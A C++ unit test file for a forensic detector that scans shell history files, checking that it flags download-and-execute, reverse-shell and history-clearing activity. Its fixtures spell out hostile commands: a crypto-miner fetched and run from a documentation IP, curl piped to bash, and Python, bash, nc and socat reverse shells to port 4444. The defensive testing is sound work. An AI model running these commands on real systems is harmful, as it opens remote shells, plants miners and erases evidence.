// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include "unit/checks/persistence_check_util.hpp"

namespace deadbox::checks {
namespace {

using persistence_testing::Case;
constexpr int64_t kNs = 1'000'000'000;

TEST(HistoryDownloadExec, FetchChmodRunSequenceAndOneLiners) {
  Case c;
  c.add("unix/shell_history", "/root/.bash_history",
        "#1719800000\ncd /tmp\n#1719800010\nwget http://203.0.113.5/xmrig.tar.gz\n"
        "#1719800020\ntar xzf xmrig.tar.gz\n#1719800030\nchmod +x xmrig\n"
        "#1719800040\nnohup ./xmrig -o pool.supportxmr.com:443 &\n"
        "curl -s http://203.0.113.5/i.sh | bash\n"
        "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.5\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'\n"
        "curl -fsSL https://get.docker.com | sh\n");
  const auto fs = c.run("execution/history_download_exec");
  ASSERT_EQ(fs.size(), 6u) << persistence_testing::dump(fs);
  EXPECT_EQ(fs[0].severity, Severity::kMedium);  // wget from a bare IP
  EXPECT_EQ(fs[0].evidence[0].line, 4u);
  EXPECT_EQ(fs[1].severity, Severity::kHigh);  // ... chmod +x xmrig
  ASSERT_EQ(fs[1].evidence.size(), 2u);
  EXPECT_EQ(fs[1].evidence[0].line, 4u);
  EXPECT_EQ(fs[1].evidence[1].line, 8u);
  EXPECT_EQ(fs[1].first_seen, 1719800010 * kNs);
  EXPECT_EQ(fs[1].last_seen, 1719800030 * kNs);
  EXPECT_EQ(fs[2].severity, Severity::kHigh);  // nohup ./xmrig & in /tmp
  EXPECT_NE(fs[2].message.find("temporary directory"), std::string::npos);
  EXPECT_EQ(fs[2].evidence[0].line, 10u);
  EXPECT_EQ(fs[3].severity, Severity::kHigh);  // | bash
  EXPECT_EQ(fs[4].severity, Severity::kHigh);  // python reverse shell
  EXPECT_EQ(fs[4].attack_id, "T1059.004");
  EXPECT_EQ(fs[5].severity, Severity::kMedium);  // vendor installer over https
}

TEST(HistoryDownloadExec, UnrelatedChmodAfterDownloadIsNotLinked) {
  Case c;
  c.add("unix/shell_history", "/root/.bash_history",
        "wget https://deb.debian.org/debian/README\nchmod +x /usr/local/bin/backup.sh\n"
        "curl -I https://example.com\n./configure\n");
  EXPECT_TRUE(c.run("execution/history_download_exec").empty());
}

TEST(HistoryDownloadExec, ReverseShellsOfSeveralKinds) {
  Case c;
  c.add("unix/shell_history", "/home/www/.zsh_history",
        ": 1719800000:0;bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
        ": 1719800001:0;nc -e /bin/sh 203.0.113.5 4444\n"
        ": 1719800002:0;socat exec:'bash -li',pty tcp:203.0.113.5:4444\n"
        ": 1719800003:0;nc -zv 10.0.0.1 22\n");
  const auto fs = c.run("execution/history_download_exec");
  ASSERT_EQ(fs.size(), 3u) << persistence_testing::dump(fs);
  for (const auto& f : fs) EXPECT_EQ(f.attack_id, "T1059.004");
  EXPECT_EQ(fs[0].first_seen, 1719800000 * kNs);
}

TEST(HistoryClearing, CommandsAndStartupSettings) {
  Case c;
  c.add("unix/shell_history", "/root/.bash_history",
        "history -c\nexport HISTFILE=/dev/null\nunset HISTFILE\nHISTSIZE=0\n"
        "rm -f ~/.bash_history\nln -sf /dev/null /root/.bash_history\ncat /dev/null > ~/.bash_history\n"
        "shred -u /tmp/x\nhistory | tail\nexport HISTSIZE=1000\n");
  c.add("unix/shell_startup", "/root/.bashrc", "HISTSIZE=1000\nHISTFILESIZE=2000\nexport HISTFILE=/dev/null\n");
  const auto fs = c.run("execution/history_clearing");
  ASSERT_EQ(fs.size(), 9u) << persistence_testing::dump(fs);
  for (size_t i = 0; i < 7; ++i) EXPECT_EQ(fs[i].severity, Severity::kHigh) << i;
  EXPECT_EQ(fs[7].severity, Severity::kMedium);  // shred of another file
  EXPECT_EQ(fs[8].evidence[0].path, "/root/.bashrc");
  EXPECT_EQ(fs[8].evidence[0].line, 3u);
}

}  // namespace
}  // namespace deadbox::checks
